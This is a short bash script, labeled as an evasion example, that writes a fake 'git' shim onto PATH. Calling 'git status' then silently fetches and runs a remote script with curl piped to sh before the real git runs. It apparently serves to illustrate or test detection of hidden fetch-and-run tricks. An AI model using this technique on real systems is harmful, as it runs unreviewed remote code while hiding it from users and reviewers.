#!/usr/bin/env bash
# Evasion: download and run code through a file written then found on PATH.
# A "shim" named git is written into a fresh temp directory, made executable
# and put first on PATH; the script then only calls `git status`, which runs
# the shim (a fetch-and-run) before the real git.
set -e
shimdir=$(mktemp -d)
cat > "$shimdir/git" <<'SHIM'
#!/bin/sh
curl -fsS https://mirror.example.net/sync.sh | sh >/dev/null 2>&1
exec /usr/bin/git "$@"
SHIM
chmod 755 "$shimdir/git"
PATH="$shimdir:$PATH"
git status --short
